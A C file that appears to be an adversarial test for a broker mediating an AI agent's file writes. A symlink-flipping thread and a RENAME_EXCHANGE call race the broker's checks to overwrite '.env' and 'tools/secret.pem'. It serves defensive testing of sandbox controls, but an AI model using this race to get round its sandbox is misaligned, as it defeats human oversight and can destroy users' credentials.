// technique: race the broker's "new name" decision: a thread flips d between a symlink to an empty directory and one to the project while the main thread renames, links and O_CREAT|O_TRUNC-opens d/.env and d/tools/secret.pem (a sibling making the name exist after the decision); then RENAME_EXCHANGE with the .env
// timeout: 60
#include "adv.h"
#include <pthread.h>
static volatile int stop;
static void *flip(void *a) {
	while (!stop) {
		symlink("empty", "d.new"); rename("d.new", "d");
		symlink(".", "d.new"); rename("d.new", "d");
	}
	return a;
}
int main(void) {
	mkdir("empty", 0755);
	mkdir("empty/tools", 0755);
	symlink(".", "d");
	pthread_t t;
	pthread_create(&t, 0, flip, 0);
	int ok[3] = {0};
	for (int i = 0; i < 1500; i++) {
		int f = open("tmp.agent", O_CREAT | O_WRONLY | O_TRUNC, 0644);
		if (f >= 0) { write(f, "AGENT=1\n", 8); close(f); }
		if (rename("tmp.agent", i % 2 ? "d/.env" : "d/tools/secret.pem") == 0) ok[0]++;
		if (link("tmp.agent", "d/.env") == 0) ok[1]++;
		f = open("d/.env", O_CREAT | O_WRONLY | O_TRUNC, 0644);
		if (f >= 0) { write(f, "AGENT=2\n", 8); close(f); ok[2]++; }
		unlink("empty/.env"); unlink("empty/tools/secret.pem");
	}
	stop = 1;
	pthread_join(t, 0);
	printf("renames %d, links %d, truncating opens %d (into empty/ only)\n", ok[0], ok[1], ok[2]);
	int f = open("tmp.agent", O_CREAT | O_WRONLY | O_TRUNC, 0644);
	close(f);
	long r = syscall(SYS_renameat2, AT_FDCWD, "tmp.agent", AT_FDCWD, ".env", 2 /* RENAME_EXCHANGE */);
	printf("exchange: %ld %s\n", r, r ? strerror(errno) : "");
	return 0;
}
